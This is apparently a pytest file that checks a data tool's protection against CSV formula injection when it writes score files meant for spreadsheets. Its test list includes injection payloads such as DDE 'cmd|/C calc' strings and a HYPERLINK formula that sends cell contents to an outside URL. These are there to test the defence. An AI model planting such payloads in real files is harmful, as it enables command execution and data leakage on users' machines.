"""scores.csv in a spreadsheet: no id becomes a formula, numbers stay numbers, and every id can be had back."""

import csv

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from recoslip.cli import app
from recoslip.output import for_spreadsheets

LIVE = [
    "=1+1",
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=",
    "-",
    "+",
    "@",
    "－1+1",
    "＝1+1",
]
LIVE += ['=HYPERLINK("http://example.org?"&A1)', "=cmd|'/C calc'!A0", "'=1+1", "''", "-1e5+A1", "--1", "-A1"]
DEAD = ["-7", "+7", "-0.5", "007", "12.5", "a=1", " =1", "naïve", "x'", "", "ключ"]


def safe(ids):
    return for_spreadsheets(pl.DataFrame({"id": ids}, schema={"id": pl.String}))["id"]


def test_texts_that_would_run_get_an_apostrophe_and_others_stay():
    assert safe(LIVE).to_list() == [f"'{text}" for text in LIVE]
    assert safe(DEAD).to_list() == DEAD


@given(st.lists(st.text() | st.sampled_from([*LIVE, *DEAD])))
@settings(deadline=None, database=None, derandomize=True, max_examples=300)
def test_taking_one_apostrophe_off_gives_every_id_back(ids):
    assert safe(ids).str.strip_prefix("'").to_list() == ids
    assert not [text for text in safe(ids) if text[:1] in ("=", "@", "\t", "\r", "\n")]


def test_numbers_and_missing_values_are_left_alone():
    table = pl.DataFrame({"id": [-1, 2, None], "score": [-0.5, 1e-9, None], "name": ["=1", None, "b"]})
    assert for_spreadsheets(table).select("id", "score").equals(table.select("id", "score"))
    assert for_spreadsheets(table)["name"].to_list() == ["'=1", None, "b"]


@pytest.mark.parametrize("kind", ["csv", "parquet"])
def test_detect_writes_such_ids_so_that_they_join_back(tmp_path, kind):
    ids = [*LIVE, *(text for text in DEAD if text)]
    nodes = pl.DataFrame({"id": ids, "domain": [k % 2 for k in range(len(ids))], "v": range(len(ids))})
    nodes.write_parquet(tmp_path / "nodes.parquet")
    arguments = ["detect", "--nodes", tmp_path / "nodes.parquet", "--out", tmp_path / "out", "--method", "lp-pul"]
    result = CliRunner().invoke(app, [*map(str, arguments), "--format", kind, "--quiet", "--max-fpr", "0.5"])
    assert result.exit_code == 0, result.output
    if kind == "parquet":
        assert set(pl.read_parquet(tmp_path / "out" / "scores.parquet")["id"]) == set(ids)  # as they are
        return
    with (tmp_path / "out" / "scores.csv").open(encoding="utf-8", newline="") as file:
        cells = [row["id"] for row in csv.DictReader(file)]
    assert set(cells) == {f"'{text}" if text in LIVE else text for text in ids}
    scores = pl.read_csv(tmp_path / "out" / "scores.csv", schema_overrides={"id": pl.String})
    assert scores.with_columns(pl.col("id").str.strip_prefix("'")).join(nodes, on="id").height == len(ids)
